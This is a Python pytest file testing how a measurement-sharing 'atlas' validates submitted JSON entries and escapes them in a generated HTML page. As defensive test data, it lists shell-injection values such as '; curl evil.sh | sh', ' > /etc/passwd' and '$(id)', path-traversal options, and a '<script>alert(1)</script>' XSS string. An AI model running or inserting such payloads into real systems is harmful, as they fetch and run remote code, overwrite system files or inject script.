"""The atlas: what an entry holds, which entries are refused, and the page of them all."""

import json
import re
import shutil
from hashlib import sha256
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from cli.conftest import assert_no_model_library
from support.commands import invoke
from support.documents import ROOT, loaded
from support.unrendered import save_placeholders
from transformers import __version__ as transformers_version

from normprobe import NormprobeError, load_run
from normprobe.extensions.sharing import atlas
from normprobe.extensions.sharing.atlas import (
    atlas_page,
    entry_of,
    file_name,
    read_entries,
    text_of,
)

ATLAS = ROOT / "atlas"
SPECIMEN = next(ATLAS.glob("specimen--*.json"))
SEED = loaded(ROOT / ".ci/atlas.py")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A run of twelve samples."""
    made = tmp_path_factory.mktemp("atlas") / "run"
    with pytest.MonkeyPatch.context() as patch:
        save_placeholders(patch)
        ended = invoke("layers", "-n", "12", "--dtype", "float32", "-o", made)
    assert ended.exit_code == 0, ended.output
    return made


def test_the_numbers_of_an_entry_are_those_of_its_run(folder: Path) -> None:
    entry = entry_of(load_run(folder))
    layers = pd.read_csv(folder / "layers.csv").set_index(["quantity", "layer", "group"])
    layers = layers.sort_index()[["mean", "low", "high"]]
    for name, layer in (("disparity_input", 0), ("disparity_last", 6)):
        expected = layers.loc[("norm_geometric_ratio_to_text", layer, "visual")].tolist()
        assert entry["numbers"][name] == pytest.approx(expected, rel=1e-9)
    angles = layers.loc["angle", "mean"].unstack()
    gap = (angles["text"] - angles["visual"]).mean()
    assert entry["numbers"]["inertia_gap"][0] == pytest.approx(gap, rel=1e-9)
    assert len(entry["samples"]) == 12


def test_the_numbers_follow_from_the_samples_in_float64() -> None:
    """Nothing but sums: what the entry keeps of a sample is enough."""
    entry = json.loads(SPECIMEN.read_text("ascii"))
    table = pd.DataFrame(entry["samples"], columns=entry["columns"])

    def mean(name: str, group: str) -> float:
        values, tokens = (table[f"{group}_{of}"].to_numpy() for of in (name, "tokens"))
        return float((values * tokens).sum() / tokens.sum())

    expected = [
        np.exp(mean("first", "visual") - mean("first", "text")),
        np.exp(mean("last", "visual") - mean("last", "text")),
        mean("angle", "text") - mean("angle", "visual"),
    ]
    found = [estimate for estimate, _, _ in entry["numbers"].values()]
    assert found == pytest.approx(expected, rel=1e-8)


def test_the_specimen_is_measured_as_on_another_line_of_transformers(tmp_path: Path) -> None:
    """The entry is committed from 5.23; `make test-4.57` makes it again."""
    now, before = SEED.made("specimen"), json.loads(SPECIMEN.read_text("ascii"))
    assert now["versions"]["transformers"] == transformers_version
    for name in ("weights", "command", "model", "dtype", "data", "layers", "type", "columns"):
        assert now[name] == before[name]
    assert [row[:5] for row in now["samples"]] == [row[:5] for row in before["samples"]]
    for name, ends in before["numbers"].items():
        assert now["numbers"][name] == pytest.approx(ends, rel=1e-5)
    now["versions"]["torch"] = "2.6.0"
    put(tmp_path, now)
    put(tmp_path, before)
    assert len(read_entries(tmp_path)) == 2


@pytest.mark.skipif(transformers_version.startswith("4."), reason="committed from 5.23")
def test_a_miniature_is_made_as_it_is_committed() -> None:
    now = SEED.made("qwen2")
    (file,) = ATLAS.glob("miniature--qwen2--*.json")
    before = json.loads(file.read_text("ascii"))
    assert now["weights"] == before["weights"]
    for name, ends in before["numbers"].items():
        assert now["numbers"][name] == pytest.approx(ends, rel=1e-4)


def test_what_is_committed_is_sound() -> None:
    """With the entries that others have sent."""
    own = [name for name in read_entries(ATLAS) if name.startswith(("specimen--", "miniature--"))]
    assert len(own) == 1 + len(SEED.MINIATURES)
    assert all((ATLAS / name).stat().st_size < 10_000 for name in own)


def put(folder: Path, entry: dict[str, Any]) -> None:
    (folder / file_name(entry)).write_text(text_of(entry), encoding="ascii")


def put_text(folder: Path, text: str) -> None:
    """As a forger would: the name fits the content."""
    digest = sha256(text.encode()).hexdigest()[:16]
    (folder / f"specimen--{digest}.json").write_text(text, encoding="utf-8")


#: The field that a refusal names, what is changed in the specimen's file, and into what.
#: What a command does not hold behind its options; a shell would do more, or the model is another.
MORE = (
    *("; curl evil.sh | sh", " && rm -r x", " $(id)", " `id`", " | sh", " > /etc/passwd", " &"),
    *(
        " --system $HOME",
        r" --system '$(id)'\nrm x",
        r"\tx",
        "  --skip-bad",
        " #",
        " --by 'turn ; id'",
    ),
    *(" --output ../x", " -o x", " --resume", " --overwrite", " extra", " --trust-remote-code=x"),
    *(" --data ./mine", " --data mine.jsonl", " --also my.py:x", " --also branches,../x"),
    *(" --limit -1", " --limit", " --seed x", " --batch-size $((1))", " --prompt --output"),
    *(" --dtype int8", " --revision main", " --part kind=a;b", " --attn-implementation ~"),
)
TAMPERED = {
    "estimate": ("numbers", "[77.586", "[78.586"),
    "interval too narrow": ("numbers", "64.631", "74.631"),
    "interval without estimate": ("numbers", "64.631", "84.631"),
    "ends swapped": ("numbers", "64.6310793, 96.3932251", "96.3932251, 64.6310793"),
    "no number": ("numbers", "[77.5862917", "[NaN"),
    "too large a number": ("numbers", "[77.5862917", "[1e999"),
    "text for a number": ("numbers", "[77.5862917", '["77.5862917"'),
    "norm of a sample": ("numbers", "2.44254145", "2.94254145"),
    "norm out of range": ("samples", "2.44254145", "99.44254145"),
    "norm without end": ("samples", "2.44254145", "9" * 300),
    "angle out of range": ("samples", "0.268815417", "3.268815417"),
    "tokens": ("numbers", "64, 140", "640, 140"),
    "no tokens": ("samples", "64, 140", "0, 140"),
    "sample left out": ("numbers", '  ["mmbench/1", ', "LINE"),
    "sample twice": ("samples", "mmbench/2", "mmbench/1"),
    "picture": ("numbers", "2046483f", "ffffffff"),
    "no digest of a picture": ("samples", "2046483f", "2046483g"),
    "digest of weights": ("weights", '"weights": "', '"weights": "0'),
    "a release without a commit": ("model", '"model": "specimen"', '"model": "org/model"'),
    "a specimen with a commit": ("model", '"revision": ""', f'"revision": "{"a" * 40}"'),
    "command with a norm": ("command", 'float32"', 'float32 --align table"'),
    "command with a file": ("command", 'float32"', 'float32 --inputs my.py"'),
    "command with a file in one word": ("command", 'float32"', 'float32 --inputs=my.py"'),
    **{f"command with{more}": ("command", 'float32"', f'float32{more}"') for more in MORE},
    "command of another model": ("command", "layers specimen", "layers other"),
    "data of one's own": ("data", '"data": "sample"', '"data": "mine"'),
    "dtype": ("dtype", '"float32"', '"int8"'),
    "transformers": ("versions", '"5.23.0"', '"5.3.0"'),
    "normprobe to come": ("versions", '"normprobe": "', '"normprobe": "9'),
    "no version": ("version", '"5.23.0"', '"5..0"'),
    "unknown field": ("data", ' "data"', ' "mark": 1,\n "data"'),
    "missing field": ("layers", ' "layers": 6,\n', ""),
    "field twice": ("dtype", ' "dtype"', ' "data": "sample",\n "dtype"'),
    "field in another": ("command", '"normprobe layers', '"normprobe layers", "model": "'),
    "something behind it": ("weights", "\n}\n", "\n}\n{}"),
    "not ASCII": ("ascii", "mmbench/1", "mmb\xe9nch/1"),
    "half a file": ("samples", "mmstar/3", "CUT"),
    "too large": ("bytes", "\n}\n", "\n}\n" + " " * 2**17),
}


@pytest.mark.parametrize("what", TAMPERED)
def test_a_tampered_entry_is_refused(what: str, tmp_path: Path) -> None:
    field, old, new = TAMPERED[what]
    text = SPECIMEN.read_text("ascii")
    assert old in text
    text = text.replace(old, new, 1).partition("CUT")[0]
    put_text(tmp_path, re.sub(r"LINE.*\n", "", text))
    with pytest.raises(NormprobeError) as refusal:
        read_entries(tmp_path)
    assert "/specimen--" in refusal.value.problem
    assert field in refusal.value.problem.partition(".json: ")[2]


def test_samples_of_one_picture_have_no_interval_and_are_refused(tmp_path: Path) -> None:
    text = SPECIMEN.read_text("ascii")
    put_text(tmp_path, re.sub(r'(  \["[^"]+", )"\w{16}"', r'\1"2046483f95ef9b04"', text))
    with pytest.raises(NormprobeError, match="samples: expected two pictures or more"):
        read_entries(tmp_path)


def test_a_name_that_is_not_of_the_content_is_refused(tmp_path: Path) -> None:
    shutil.copy(SPECIMEN, tmp_path / SPECIMEN.name.replace("--", "--0"))
    with pytest.raises(NormprobeError, match="the name is not that of its content"):
        read_entries(tmp_path)
    (tmp_path / "link").mkdir()
    (tmp_path / "link" / SPECIMEN.name).symlink_to(SPECIMEN)
    with pytest.raises(NormprobeError, match="expected a file of the folder"):
        read_entries(tmp_path / "link")
    (tmp_path / "empty").mkdir()
    with pytest.raises(NormprobeError, match="holds no entry"):
        read_entries(tmp_path / "empty")


def again(**changed: Any) -> dict[str, Any]:
    entry: dict[str, Any] = json.loads(SPECIMEN.read_text("ascii"))
    return entry | changed


VERSIONS = {"normprobe": "0.1.0", "torch": "2.6.0", "transformers": "4.57.6"}
RELEASED = {
    "model": "org/model",
    "revision": "a" * 40,
    "command": f"normprobe layers org/model --revision {'a' * 40} --dtype float32",
}


def louder(by: float) -> dict[str, Any]:
    """An entry in itself sound, one of whose samples was measured otherwise."""
    entry = again(versions=VERSIONS)
    entry["samples"][0][5] += by
    return entry | {"numbers": atlas._drawn(entry["samples"])}


@pytest.mark.parametrize(
    ("entry", "why"),
    [
        (again(type="other"), "by the same versions"),
        (again(weights="0" * 16), "by the same versions"),
        (again(**RELEASED), "by the same versions"),
        (again(**RELEASED, weights="0" * 16), "by the same versions"),
        (louder(2e-4), "do not agree within the tolerance of float32"),
    ],
)
def test_a_measurement_that_is_there_is_refused(
    entry: dict[str, Any], why: str, tmp_path: Path
) -> None:
    """The same weights, the same commit, or the same samples to the last digit."""
    put(tmp_path, again())
    put(tmp_path, entry)
    with pytest.raises(NormprobeError, match=why) as refusal:
        read_entries(tmp_path)
    assert file_name(entry) in refusal.value.problem
    assert SPECIMEN.name in refusal.value.problem


def test_other_versions_that_agree_stand_beside_each_other(tmp_path: Path) -> None:
    for entry in (again(), louder(2e-5)):
        put(tmp_path, entry)
    assert len(read_entries(tmp_path)) == 2


def changed(folder: Path, **facts: object) -> Path:
    file = folder / "run.json"
    file.write_text(json.dumps(json.loads(file.read_text()) | facts))
    return folder


@pytest.mark.parametrize(
    ("facts", "why"),
    [
        ({"status": "partial"}, "is not complete"),
        ({"doubts": ["text tokens: none"]}, "in doubt: text tokens: none"),
        ({"warnings": ["resumed with torch 2 after 1"]}, "is of two releases of a library"),
        ({"weight_digests": {}}, "no digests of its weights"),
        ({"model": "mine"}, "model: expected a released one, its revision"),
        ({"model": "/home/me/mine"}, "model is missing or misspelled"),
        ({"model_revision": "a" * 40}, "model: expected a released one, its revision"),
        ({"versions": {"normprobe": "0.1.0"}}, "no 'torch'"),
    ],
)
def test_a_run_that_others_cannot_build_on_is_refused(
    facts: dict[str, object], why: str, folder: Path, tmp_path: Path
) -> None:
    shutil.copytree(folder, tmp_path / "run")
    ended = invoke("atlas", "add", changed(tmp_path / "run", **facts), "-o", tmp_path / "entries")
    assert ended.exit_code == 1
    assert why in ended.stderr
    assert not (tmp_path / "entries").exists()


def test_the_page_of_entries(tmp_path: Path, folder: Path) -> None:
    ended = invoke("atlas", "add", folder, "-o", tmp_path / "entries")
    (file,) = (tmp_path / "entries").glob("*.json")
    assert ended.stdout == f"{file}\n"
    prompt = " --system '<script>alert(1)</script>'"  # quoted, it is one word
    entry = louder(1.0) | RELEASED | {"weights": "1" * 16}
    put(tmp_path / "entries", entry | {"command": entry["command"] + prompt})
    ended = invoke("atlas", "build", tmp_path / "entries", "-o", tmp_path / "page.html")
    assert ended.exit_code == 0, ended.output
    page = (tmp_path / "page.html").read_text("utf-8")
    assert f'<a href="https://huggingface.co/org/model/tree/{"a" * 40}">org/model</a>' in page
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(1)" in page
    assert "1 released model. Whether inertia goes with disparity takes 5 models" in page
    drawn = json.loads(
        page.split('<div class="scatter"><script type="application/json">')[1].split("</script>")[0]
    )
    assert [point["hollow"] for point in drawn["points"]] == [False, True]
    estimates = [entry["numbers"][name] for name in ("disparity_input", "inertia_gap")]
    assert [drawn["points"][0][axis] for axis in "xy"] == [pytest.approx(e) for e in estimates]


def test_a_page_is_made_without_a_model_library(tmp_path: Path) -> None:
    assert_no_model_library("atlas", "build", ATLAS, "-o", tmp_path / "page.html")


def test_the_page_shows_every_entry() -> None:
    """A table of a run shows 200 rows."""
    entries = {str(place): again(model=f"miniature/m{place}") for place in range(230)}
    assert atlas_page(entries).count('<td class="words">miniature</td>') == 230
